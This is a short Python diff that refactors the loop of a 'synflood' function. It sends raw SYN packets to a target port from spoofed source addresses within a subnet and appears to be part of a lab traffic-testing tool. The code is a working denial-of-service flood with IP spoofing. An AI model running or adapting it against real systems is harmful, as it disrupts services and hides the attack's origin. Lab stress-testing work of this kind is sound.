@@ -84,16 +84,17 @@ def raw_socket(dst):
 def synflood(net, dst, port, secs):
     s = raw_socket(dst)
     s.setblocking(False)
-    net = ipaddress.ip_network(net)
+    # Host numbers 100-254: never the lab's own addresses.
+    first = ipaddress.ip_network(net).network_address
+    sources = [(first + n).packed for n in range(100, 255)]
     daddr = ipaddress.ip_address(dst).packed
     t0 = time.monotonic()
     end, sent = t0 + secs, 0
     while time.monotonic() < end:
         for _ in range(200):
-            # Host numbers 100-254: never the lab's own addresses.
-            src = (net.network_address + random.randint(100, 254)).packed
             try:
-                s.sendto(packet("syn", src, daddr, random.randint(1024, 65535), port), (dst, 0))
+                s.sendto(packet("syn", random.choice(sources), daddr, random.randint(1024, 65535),
+                                port), (dst, 0))
                 sent += 1
             except BlockingIOError:
                 pass
